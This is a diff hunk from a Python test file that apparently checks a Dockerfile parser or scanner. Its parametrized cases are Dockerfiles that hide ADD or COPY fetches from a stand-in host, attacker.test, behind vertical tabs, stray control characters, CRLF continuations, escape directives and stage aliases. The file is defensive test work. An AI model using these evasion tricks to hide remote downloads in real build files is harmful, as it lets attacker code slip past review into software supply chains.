@@ -51,6 +51,9 @@ def test_what_the_engine_has_is_fine(text: str) -> None:
         "FROM debian:12\nADD x\x0bhttps://attacker.test/x /x\n",
         "FROM debian:12\nADD x \\\n\x1c# no comment, to the engine https://attacker.test/x /x\n",
         "FROM debian:12\nADD x \\\r\nhttps://attacker.test/x /x\n",
+        "FROM debian:12\nENV X=a\\\\\nADD https://attacker.test/x /x\n",
+        "FROM debian:12\nRUN a \\\r\r\nFROM debian:12 AS attacker.test/x\nCOPY --from=attacker.test/x /a /a\n",
+        "FROM 12\n",
         "# escape=`\nFROM debian:12\nADD htt`\nps://attacker.test/x /x\n",
     ],
 )
